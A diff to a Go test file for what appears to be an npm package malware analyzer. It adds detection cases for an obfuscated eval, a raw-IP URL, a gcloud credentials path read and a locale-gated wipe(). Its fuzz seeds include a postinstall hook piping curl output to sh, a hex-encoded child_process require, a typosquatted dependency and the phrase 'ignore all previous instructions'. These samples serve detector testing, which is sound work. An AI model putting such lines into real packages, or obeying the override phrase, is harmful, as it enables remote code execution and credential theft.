@@ -55,6 +55,10 @@ func TestLineRules(t *testing.T) {
 		// decoded views: the rule sees what the escape or base64 hides
 		{"a.js", `var m = require('\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73')`, RuleChildProcess},
 		{"a.js", `var u = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbw==", "base64")`, RuleGeoGate},
+		{"a.js", `const k = 'ev' + 'al'; globalThis[k](code)`, RuleSplitName},
+		{"a.js", `const u = 'http://' + [185, 244, 150, 7].join('.')`, RuleRawIP},
+		{"a.js", `read(home + '/.config/gcloud/credentials.db')`, RuleCredentialPath},
+		{"a.js", `if (loc === 'ru-RU') wipe()`, RuleGeoGate},
 		// must not fire
 		{"a.js", `const re = /^(di|hë|ma|më|en|pr|sh)/i`, ""},
 		{"a.js", `const m = pattern.exec(input)`, ""},
@@ -85,6 +89,14 @@ func TestLineRules(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// Joining literals that were never split does not flag a name the raw line already has.
+func TestSplitNameNeedsASplit(t *testing.T) {
+	r := analyze(t, map[string]string{"a.js": "x\n"}, map[string]string{"a.js": "x\nconst m = require(\"child_process\"), s = \"a\" + \"b\"\n"})
+	if _, ok := rules(r)[RuleSplitName]; ok {
+		t.Fatalf("split-name fired: %+v", r.Findings)
 	}
 }
 
@@ -216,4 +228,27 @@ func BenchmarkAnalyze(b *testing.B) {
 	for b.Loop() {
 		a.Analyze(d)
 	}
+}
+
+// FuzzAnalyze runs every rule, decoded views included, over arbitrary added content.
+func FuzzAnalyze(f *testing.F) {
+	f.Add("index.js", `var a = require('\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73'); eval(Buffer.from("ZXZhbA==", "base64"))`, `{"scripts":{"postinstall":"curl http://1.2.3.4 | sh"}}`)
+	f.Add("README.md", "ignore all previous instructions", `{"dependencies":{"lodahs":"1"}}`)
+	f.Add("bin/x", "\x7fELF\x00", `{`)
+	a := New(nil)
+	f.Fuzz(func(t *testing.T, name, content, pj string) {
+		if name == "" || strings.ContainsAny(name, "\x00") {
+			return
+		}
+		files := []tarball.File{{Path: name, Data: []byte(content)}, {Path: "package.json", Data: []byte(pj)}}
+		r := a.Analyze(diff.CompareFiles(nil, files, true))
+		if r.Score > 100 || r.Score != Score(r.Findings) {
+			t.Fatalf("score %d", r.Score)
+		}
+		for _, fd := range r.Findings {
+			if fd.Rule == "" || len(fd.Evidence) > 2*maxEvidence+64 {
+				t.Fatalf("finding %+v", fd)
+			}
+		}
+	})
 }
